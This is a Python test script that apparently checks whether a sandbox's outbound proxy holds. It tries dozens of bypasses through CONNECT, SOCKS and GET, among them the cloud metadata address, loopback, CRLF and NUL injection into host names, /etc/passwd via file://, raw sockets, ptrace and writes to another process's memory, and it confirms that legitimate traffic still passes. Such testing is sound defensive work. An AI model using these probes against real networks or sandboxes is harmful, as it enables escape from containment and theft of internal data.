# Tries to get more out of a sandbox's proxy than its policy allows. Prints one JSON object: of each attack why it failed, null where
# it got through; of each honest use whether it worked.
import array, ctypes, json, os, socket, ssl, struct, sys
from urllib.parse import urlsplit

good, tls_port, plain_port, canary_port, proxy_socket, abstract = sys.argv[1:7]
tls_port, plain_port, canary_port = int(tls_port), int(plain_port), int(canary_port)
place = urlsplit(os.environ["HTTP_PROXY"])
libc = ctypes.CDLL(None, use_errno=True)
ARM = os.uname().machine == "aarch64"
attacks, uses = {}, {}
REPLIES = {1: "failed", 2: "not allowed", 4: "unreachable", 5: "refused", 7: "unknown command", 8: "unknown address"}


class Held(Exception):
    pass


def attack(name, body):
    try:
        attacks[name] = None if body() is not False else "nothing came"
    except (OSError, Held, ValueError) as error:
        attacks[name] = str(error) or type(error).__name__


def use(name, body):
    try:
        uses[name] = body() is True
    except Exception as error:
        uses[name] = repr(error)


def door(path=None):
    stream = socket.socket(socket.AF_UNIX if path else socket.AF_INET)
    stream.settimeout(5)
    stream.connect(path or (place.hostname, place.port))
    return stream


def everything(stream):
    got = b""
    while True:
        more = stream.recv(65536)
        if not more:
            return got
        got += more


# Not the default context: that reads every certificate of the system, and nobody here shows one.
greeting = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
greeting.check_hostname, greeting.verify_mode = False, ssl.CERT_NONE


def hello(name):
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        greeting.wrap_bio(incoming, outgoing, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError:
        return outgoing.read()


def by_http(authority, then, path=None):
    with door(path) as stream:
        stream.sendall(b"CONNECT " + authority + b" HTTP/1.1\r\nHost: " + authority + b"\r\n\r\n")
        head = b""
        while b"\r\n\r\n" not in head:
            more = stream.recv(4096)
            if not more:
                break
            head += more
        if not head.startswith(b"HTTP/1.1 200"):
            raise Held(head.split(b"\r\n")[0].decode("latin1") or "closed")
        stream.sendall(then)
        return through(everything(stream))


def by_socks(address, port, then, command=1, path=None):
    with door(path) as stream:
        stream.sendall(b"\x05\x01\x00")
        if stream.recv(2) != b"\x05\x00":
            raise Held("greeting refused")
        stream.sendall(bytes([5, command, 0]) + address + struct.pack(">H", port))
        reply = stream.recv(10)
        if len(reply) < 2 or reply[1] != 0:
            raise Held("SOCKS: " + REPLIES.get(reply[1] if len(reply) > 1 else 0, "closed"))
        stream.sendall(then)
        return through(everything(stream))


def by_get(url, host=good, path=None):
    with door(path) as stream:
        stream.sendall(("GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (url, host)).encode("latin1"))
        return through(everything(stream))


def through(answer):
    if b"answered" not in answer and b"plain answer" not in answer:
        raise Held(answer[:60].decode("latin1") or "closed without an answer")
    return True


def name(text):
    raw = text if isinstance(text, bytes) else text.encode("latin1")
    return bytes([3, len(raw)]) + raw


def v4(text):
    return b"\x01" + socket.inet_aton(text)


def v6(text):
    return b"\x04" + socket.inet_pton(socket.AF_INET6, text)


def both(what, host, port, sni=None):
    """The same by CONNECT and by SOCKS."""
    then = hello(sni or (host if host.replace(".", "").isalnum() else good))
    attack("CONNECT to " + what, lambda: by_http(("%s:%d" % (host, port)).encode("latin1"), then))
    attack("SOCKS to " + what, lambda: by_socks(name(host), port, then))


# What is not allowed, by both protocols
both("a denied host", "denied.test", tls_port)
both("a host that has the allowed one in front", good + ".evil.test", tls_port)
both("a host below the allowed one", "x." + good, tls_port)
both("port 25", good, 25)
both("port 22", good, 22)
both("the port of the canary", good, canary_port)
both("the metadata address", "169.254.169.254", 80)
both("the canary by its address", "127.0.0.1", canary_port)
both("localhost", "localhost", canary_port)
both("the canary by a number", "2130706433", canary_port)
both("a name that leads inside", "rebound.test", canary_port)
both("a name with NUL", good + "\0.evil.test", tls_port)
both("a name with a user", good + "@evil.test", tls_port)
both("a trailing dot", good + ".", tls_port)
both("data in a name", "%s.tunnel.evil.test" % ("a1b2" * 15), 53)
both("a fronted host", good, tls_port, "evil.test")
attack("CONNECT to IPv4 mapped into IPv6", lambda: by_http(b"[::ffff:127.0.0.1]:%d" % canary_port, hello(good)))
attack("CONNECT with a line break", lambda: by_http(b"%s:%d\r\nX: y" % (good.encode(), canary_port), hello(good)))
attack("SOCKS to IPv4 mapped into IPv6", lambda: by_socks(v6("::ffff:127.0.0.1"), canary_port, hello(good)))
attack("SOCKS to the mapped metadata address", lambda: by_socks(v6("::ffff:169.254.169.254"), 80, hello(good)))
attack("SOCKS to IPv6 loopback", lambda: by_socks(v6("::1"), canary_port, hello(good)))
attack("SOCKS to the canary", lambda: by_socks(v4("127.0.0.1"), canary_port, hello(good)))
attack("SOCKS BIND", lambda: by_socks(name(good), tls_port, b"", command=2))
attack("SOCKS UDP ASSOCIATE", lambda: by_socks(v4("0.0.0.0"), 0, b"", command=3))
attack("a tunnel without TLS", lambda: by_http(b"%s:%d" % (good.encode(), tls_port), b"GET / HTTP/1.1\r\n\r\n"))
attack("a SOCKS tunnel without TLS", lambda: by_socks(name(good), tls_port, b"EHLO evil\r\n"))
attack("GET from another host", lambda: by_get("http://evil.test:%d/" % plain_port))
attack("GET from the canary", lambda: by_get("http://127.0.0.1:%d/" % canary_port))
attack("GET by https", lambda: by_get("https://%s:%d/" % (good, tls_port)))
attack("GET in origin form", lambda: by_get("/"))
attack("GET of a file", lambda: by_get("file:///etc/passwd"))
attack("CONNECT at the socket itself", lambda: by_http(b"denied.test:%d" % tls_port, hello("denied.test"), proxy_socket))
attack("SOCKS at the socket itself", lambda: by_socks(v4("127.0.0.1"), canary_port, hello(good), path=proxy_socket))
attack("GET at the socket itself", lambda: by_get("http://127.0.0.1:%d/" % canary_port, path=proxy_socket))


def socks4():
    with door() as stream:
        stream.sendall(b"\x04\x01" + struct.pack(">H", canary_port) + socket.inet_aton("127.0.0.1") + b"\0")
        if stream.recv(8)[:2] != b"\0\x5a":
            raise Held("refused")


# Around the proxy
def direct(what, family, kind, address, protocol=0):
    def body():
        with socket.socket(family, kind, protocol) as stream:
            stream.settimeout(2)
            stream.connect(address)
            stream.send(b"x")

    attack("past the proxy " + what, body)


attack("SOCKS 4", socks4)
direct("to loopback", socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", canary_port))
direct("to the metadata address", socket.AF_INET, socket.SOCK_STREAM, ("169.254.169.254", 80))
direct("by UDP", socket.AF_INET, socket.SOCK_DGRAM, ("1.1.1.1", 53))
direct("by IPv6", socket.AF_INET6, socket.SOCK_STREAM, ("2606:4700:4700::1111", 443))
direct("by ICMP", socket.AF_INET, socket.SOCK_RAW, ("1.1.1.1", 0), socket.IPPROTO_ICMP)
direct("to an abstract Unix socket", socket.AF_UNIX, socket.SOCK_STREAM, "\0" + abstract)
attack("packets of its own", lambda: socket.socket(17, socket.SOCK_RAW, 3))
attack("a name looked up", lambda: socket.getaddrinfo("example.com", 443))


def io_uring():
    if libc.syscall(425, 8, ctypes.create_string_buffer(256)) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def seen_outside():
    return ":%04X" % canary_port in open("/proc/net/tcp").read()


def handed():
    """Files that come over the sockets it was started with."""
    with socket.socket(fileno=os.dup(0)) as stream:
        data, control, *_ = stream.recvmsg(1, socket.CMSG_SPACE(64), socket.MSG_DONTWAIT)
        files = [part for level, kind, part in control if kind == socket.SCM_RIGHTS]
        if not files:
            raise Held("none")
        return bool(array.array("i", files[0]))


def relay_memory():
    for pid in os.listdir("/proc"):
        if pid.isdigit() and b"3128" in open("/proc/%s/cmdline" % pid, "rb").read() and int(pid) != os.getpid():
            if libc.syscall(117 if ARM else 101, 16, int(pid), 0, 0) < 0:
                raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def relay_written():
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) > 1 and int(pid) != os.getpid():
            with open("/proc/%s/mem" % pid, "r+b") as memory:
                memory.seek(0x400000)
                return True
    raise Held("no relay")


attack("the relay written to", relay_written)
attack("io_uring", io_uring)
attack("connections outside seen", seen_outside)
attack("files handed over", handed)
attack("the relay traced", relay_memory)

# Honest uses
for turn in range(7):
    use("CONNECT %d" % turn, lambda: by_http(b"%s:%d" % (good.encode(), tls_port), hello(good)))
    use("SOCKS %d" % turn, lambda: by_socks(name(good), tls_port, hello(good)))
    use("GET %d" % turn, lambda: by_get("http://%s:%d/%d" % (good, plain_port, turn)))

print(json.dumps({"attacks": attacks, "uses": uses}))
